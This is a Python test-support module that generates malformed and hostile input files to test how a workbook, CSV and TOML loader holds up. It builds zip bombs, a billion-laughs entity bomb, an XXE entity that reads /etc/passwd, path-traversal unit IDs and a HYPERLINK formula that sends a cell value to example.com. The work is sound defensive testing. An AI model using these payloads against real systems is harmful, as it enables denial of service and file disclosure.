"""Hostile files, made when asked for: each as a person, a broken program or somebody with bad intent would hand it over.

``tests/conftest.py`` makes this module importable as ``tests.hostile_files``.
"""

from __future__ import annotations

import io
import random
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

SAMPLE = Path(__file__).parent / "datasets" / "sample"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}"/></Relationships>'
)
BOOK = (
    f'<?xml version="1.0"?><workbook xmlns="{MAIN}" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Unit" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
HEAD = f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>'
TAIL = "</sheetData></worksheet>"
HEADER_ROW = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>ID Unit</t></is></c><c r="B1" t="inlineStr"><is><t>Nama</t></is></c></row>'
)
UNIT_ROW = (
    '<row r="2"><c r="A2" t="inlineStr"><is><t>KEC</t></is></c><c r="B2" t="inlineStr"><is><t>Kecamatan</t></is></c></row>'
)


def book(path: Path, sheet: str | bytes, *, workbook: str = BOOK, level: int = 6) -> Path:
    """Write a workbook whose only sheet, *Unit*, is this XML."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS.format(kind="officeDocument", target="xl/workbook.xml"))
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", RELATIONS.format(kind="worksheet", target="worksheets/sheet1.xml"))
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


def sheet(*rows: str) -> str:
    """Return the XML of a sheet *Unit*: its header row, then these."""
    return f"{HEAD}{HEADER_ROW}{''.join(rows)}{TAIL}"


# workbooks ----------------------------------------------------------------------------------------------------
def truncated(path: Path) -> Path:
    """Half of a good workbook."""
    book(path, sheet(UNIT_ROW))
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return path


def random_bytes(path: Path) -> Path:
    """A workbook by its first letters only."""
    path.write_bytes(b"PK\x03\x04" + random.Random(1).randbytes(100_000))
    return path


def zip_bomb(path: Path) -> Path:
    """A sheet of 1 GB in a file of about 1 MB."""
    row = b'<row r="2"><c r="A2"><v>1</v></c></row>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS.format(kind="officeDocument", target="xl/workbook.xml"))
        archive.writestr("xl/workbook.xml", BOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", RELATIONS.format(kind="worksheet", target="worksheets/sheet1.xml"))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(HEAD.encode())
            block = row * 100_000
            for _ in range(1 + 1_000_000_000 // len(block)):
                part.write(block)
            part.write(TAIL.encode())
    return path


def lying_bomb(path: Path) -> Path:
    """A sheet that unpacks to 40 MB and says that it has 1,000 bytes."""
    text = sheet(UNIT_ROW, "<row/>" * 7_000_000)
    book(path, text, level=9)
    data = bytearray(path.read_bytes())
    size = len(text.encode()).to_bytes(4, "little")
    at = data.rfind(size)
    while at >= 0:
        data[at : at + 4] = (1_000).to_bytes(4, "little")
        at = data.rfind(size)
    path.write_bytes(data)
    return path


def external_entity(path: Path) -> Path:
    """A cell that asks for a file of this machine."""
    text = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet xmlns="{MAIN}"><sheetData>'
        f'{HEADER_ROW}<row r="2"><c r="A2" t="inlineStr"><is><t>&e;</t></is></c></row>{TAIL}'
    )
    return book(path, text)


def entity_bomb(path: Path) -> Path:
    """Entities of entities, a billion times, in the list of sheets."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    text = BOOK.replace("<workbook", f'<!DOCTYPE x [<!ENTITY a0 "a">{levels}]><workbook', 1).replace('"Unit"', '"&a9;"')
    return book(path, sheet(UNIT_ROW), workbook=text)


def far_cell(path: Path) -> Path:
    """One cell in the last corner of a sheet: 17 billion cells between it and the first."""
    return book(path, sheet(UNIT_ROW, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))


def empty_rows(path: Path) -> Path:
    """A million rows without any cell, as a stray format of a whole column leaves them."""
    return book(path, sheet(UNIT_ROW, *(f'<row r="{n}"/>' for n in range(3, 1_000_003))))


def empty_cells(path: Path) -> Path:
    """A million rows of 25 formatted cells without content."""
    cells = "".join(f'<c r="{chr(65 + n)}{{n}}" s="1"/>' for n in range(25))
    rows = (f'<row r="{n}">{cells.replace("{n}", str(n))}</row>' for n in range(3, 1_000_003))
    return book(path, sheet(UNIT_ROW, *rows), level=1)


def formulas(path: Path) -> Path:
    """Cells that hold formulas and no value, as a program writes them that never computed them."""
    row = (
        '<row r="2"><c r="A2" t="inlineStr"><is><t>KEC</t></is></c>'
        '<c r="B2"><f>HYPERLINK("http://example.com/?x="&amp;A1,"nama")</f></c></row>'
    )
    return book(path, sheet(row))


def many_columns(path: Path) -> Path:
    """A header of 10,000 columns."""
    cells = "".join(f'<c t="inlineStr"><is><t>K{n}</t></is></c>' for n in range(10_000))
    return book(path, f'{HEAD}<row r="1">{cells}</row>{TAIL}')


def long_cell(path: Path) -> Path:
    """A name of 50 MB."""
    row = UNIT_ROW.replace("Kecamatan", "x" * 50_000_000)
    return book(path, sheet(row), level=1)


def many_sheets(path: Path) -> Path:
    """Five thousand parts in one workbook."""
    book(path, sheet(UNIT_ROW))
    with zipfile.ZipFile(path, "a") as archive:
        for n in range(5_000):
            archive.writestr(f"xl/worksheets/sheet{n + 2}.xml", "")
    return path


def nested_xml(path: Path) -> Path:
    """A list of sheets nested 200,000 deep."""
    return book(path, sheet(UNIT_ROW), workbook=BOOK.replace("<sheets>", "<a>" * 200_000 + "<sheets>"))


WORKBOOKS: dict[str, Callable[[Path], Path]] = {
    maker.__name__: maker
    for maker in (
        truncated, random_bytes, zip_bomb, lying_bomb, external_entity, entity_bomb, far_cell, empty_rows, empty_cells,
        formulas, many_columns, long_cell, many_sheets, nested_xml,
    )
}  # fmt: skip


# folders ------------------------------------------------------------------------------------------------------
def folder(path: Path, name: str = "", data: bytes = b"") -> Path:
    """Copy the clean sample, one of its files overwritten."""
    shutil.copytree(SAMPLE, path)
    if name:
        (path / name).write_bytes(data)
    return path


def edited(path: Path, name: str, old: str, new: str) -> Path:
    """Copy the clean sample, a text of one file replaced."""
    text = (SAMPLE / name).read_text(encoding="utf-8")
    assert old in text
    return folder(path, name, text.replace(old, new).encode("utf-8", "surrogatepass"))


def huge_table(row: str, count: int) -> bytes:
    """Return a CSV of units with so many more rows."""
    out = io.StringIO()
    out.write("unit_id,name\nKEC,Kecamatan\nKEL,Kelurahan\n")
    out.write(row * count)
    return out.getvalue().encode()


FOLDERS: dict[str, Callable[[Path], Path]] = {
    "no_bytes": lambda path: folder(path, "units.csv"),
    "utf_16": lambda path: folder(path, "units.csv", "unit_id,name\nKEC,Kecamatan\n".encode("utf-16")),
    "utf_16_no_mark": lambda path: folder(path, "units.csv", "unit_id,name\nKEC,Kecamatan\n".encode("utf-16-le")),
    "no_encoding": lambda path: folder(path, "units.csv", b"unit_id,name\nKEC,Kec\x81amatan\xff\n"),
    "embedded_nul": lambda path: edited(path, "units.csv", "KEC", "K\0EC"),
    "long_cell": lambda path: folder(path, "units.csv", b"unit_id,name\nKEC," + b"x" * 50_000_000 + b"\n"),
    "open_quote": lambda path: folder(path, "units.csv", b'unit_id,name\nKEC,"' + b"x\n" * 10_000_000),
    "many_columns": lambda path: folder(path, "units.csv", ",".join(f"k{n}" for n in range(10_000)).encode()),
    "wide_rows": lambda path: folder(path, "units.csv", b"unit_id,name\n" + (b"x," * 10_000 + b"\n") * 200),
    "nested_toml": lambda path: folder(path, "scenario.toml", b"name = " + b"[" * 500_000),
    "nested_tables": lambda path: folder(path, "scenario.toml", b"[" + b"a." * 20_000 + b"a]\nx = 1\n"),
    "nested_keys": lambda path: folder(path, "case.toml", b"as_of = 2025-12-31\n" + b"a." * 2_000 + b"a = 1\n"),
    "huge_number": lambda path: folder(path, "scenario.toml", b"[moves]\nmax_count = " + b"9" * 100_000 + b"\n"),
    "path_ids": lambda path: edited(path, "units.csv", "KEC,Kec", "../../x,Kec"),
    "surrogates": lambda path: edited(path, "units.csv", "KEC,", "\ud800KEC,"),
    "lone_returns": lambda path: folder(path, "units.csv", b"unit_id,name\rKEC,Kecamatan\r"),
    "a_folder": lambda path: _folder_for_a_file(path),
}
"""Folders that no case can come from."""


def _folder_for_a_file(path: Path) -> Path:
    folder(path)
    (path / "units.csv").unlink()
    (path / "units.csv").mkdir()
    return path
